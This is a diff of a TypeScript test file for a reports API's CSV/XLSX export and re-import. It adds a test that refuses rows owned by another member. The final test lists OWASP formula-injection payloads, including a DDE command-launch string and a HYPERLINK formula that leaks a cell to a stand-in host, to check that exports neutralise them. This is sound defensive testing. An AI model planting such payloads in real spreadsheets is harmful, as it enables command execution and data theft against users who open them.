@@ -85,7 +85,7 @@ describe('exports', () => {
     const first = await t.as(aaa, { method: 'POST', url: '/api/v1/reports/import', ...multipart({ format: 'lintas' }, file, 'r.csv') });
     expect(first.json<ImportResult>()).toMatchObject({ imported: 2, rejected: 0 });
 
-    const csv = await t.as(aaa, { method: 'GET', url: '/api/v1/reports/export.csv?country=IDN' });
+    const csv = await t.as(aaa, { method: 'GET', url: '/api/v1/reports/export.csv?country=IDN&mine=true' });
     expect(csv.headers['content-type']).toMatch(/^text\/csv/);
     const again = await t.as(aaa, { method: 'POST', url: '/api/v1/reports/import', ...multipart({ format: 'lintas' }, csv.rawPayload, 'export.csv') });
     // The reports made without an import are keyed by their id and come back as new template rows;
@@ -99,6 +99,17 @@ describe('exports', () => {
     const back = await t.as(aaa, { method: 'POST', url: '/api/v1/reports/import', ...multipart({ format: 'lintas', dryRun: true }, xlsx.rawPayload, 'export.xlsx') });
     expect(back.json<ImportResult>()).toMatchObject({ imported: 0, unchanged: 1, rejected: 0, encoding: 'xlsx' });
   });
+  test('a re-import of an export takes back only the member\'s own reports: another member\'s rows are refused, naming their owner', async () => {
+    const csv = await t.as(bbb, { method: 'GET', url: '/api/v1/reports/export.csv' });
+    const [header = [], ...rows] = parseCsv(csv.body.replace(/^\uFEFF/, ''), ',').filter((record) => record.length > 1);
+    expect(rows.map((cells) => cells[header.indexOf('owner')]).sort()).toEqual(['AAA', 'BBB', 'BBB']);
+    const back = await t.as(bbb, { method: 'POST', url: '/api/v1/reports/import', ...multipart({ format: 'lintas', dryRun: true }, csv.rawPayload, 'export.csv') });
+    const result = back.json<ImportResult>();
+    const aaaRow = rows.findIndex((cells) => cells[header.indexOf('owner')] === 'AAA') + 2;
+    expect(result.errors).toEqual([{ row: aaaRow, column: 'owner', value: 'AAA', message: expect.stringMatching(/another member's report, and an import writes only your member's \(BBB\)/) }]);
+    expect(result).toMatchObject({ rejected: 1, imported: 2 });
+  });
+
   test('no formula injection: text cells that would run are neutralised in CSV, strings in XLSX, and both re-import as they were', async () => {
     // OWASP's payloads in the free-text fields (trimmed, as an import reads text), and in a route's transit.
     const payloads = [`=cmd|' /C calc'!A0`, '+SUM(1+1)', '-2+3', '@SUM(1+1)', '=HYPERLINK("http://x/?leak="&A2,"x")', '=1+1;=2', '＝1+1', `'=1+1`];
